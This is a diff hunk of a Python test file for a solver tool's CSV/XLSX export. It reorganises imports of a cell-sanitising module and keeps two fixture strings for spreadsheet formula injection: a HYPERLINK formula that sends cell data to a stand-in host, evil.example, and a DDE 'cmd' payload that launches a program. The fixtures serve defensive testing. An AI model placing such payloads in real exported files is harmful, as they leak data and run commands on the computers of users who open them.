@@ -16,10 +16,10 @@ import pytest
 from click.testing import CliRunner
 from openpyxl import load_workbook
 
-from solver.cli import main
-from solver.model import load_scenario
-from solver.render.inert import csv_cell, is_dangerous
-from solver.render.xlsx import render_xlsx
+from solver.io.render.inert import csv_cell, is_dangerous
+from solver.io.render.xlsx import render_xlsx
+from solver.load.scenario import load_scenario
+from solver.stageplan import main
 
 EVIL_ID = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
 EVIL_NAME = "+cmd|' /C calc'!A0"
